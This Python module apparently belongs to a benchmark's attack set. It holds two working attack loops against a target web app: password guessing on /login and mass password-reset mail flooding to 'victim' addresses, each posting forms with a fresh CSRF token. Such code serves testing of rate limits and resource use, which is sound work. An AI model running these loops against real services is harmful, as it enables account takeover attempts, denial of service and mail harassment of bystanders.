"""Guesses at a password, and mails that a stranger has sent."""

import time
from contextlib import suppress
from itertools import count

import requests

from bench.attacks.attack import Attack, Target

PAUSE_SECONDS = 0.1


def _post(target: Target, until: float, path: str, field: str, value: str) -> None:
    """Post a form as a browser does, with a token of its own, again and again."""
    url = f"http://{target.host}:{target.port}{path}"
    for number in count():
        if time.monotonic() >= until:
            return
        with suppress(requests.RequestException), requests.Session() as browser:
            browser.get(url, timeout=10)
            form = {field: value.format(number), "password": f"guess {number}"}
            form["csrfmiddlewaretoken"] = browser.cookies.get("csrftoken") or ""
            browser.post(url, form, headers={"Referer": url}, timeout=10)
        time.sleep(PAUSE_SECONDS)


def _passwords(target: Target, until: float) -> None:
    _post(target, until, "/login", "username", "alice@example.com")


def _mails(target: Target, until: float) -> None:
    _post(target, until, "/password/forgot", "email", "victim+{}@example.com")


ATTACKS = (
    Attack("guesses at a password", "as many as one likes, each 0.3 s of processor time", _passwords),
    Attack("mails to a victim under many addresses", "as many as one likes", _mails),
)
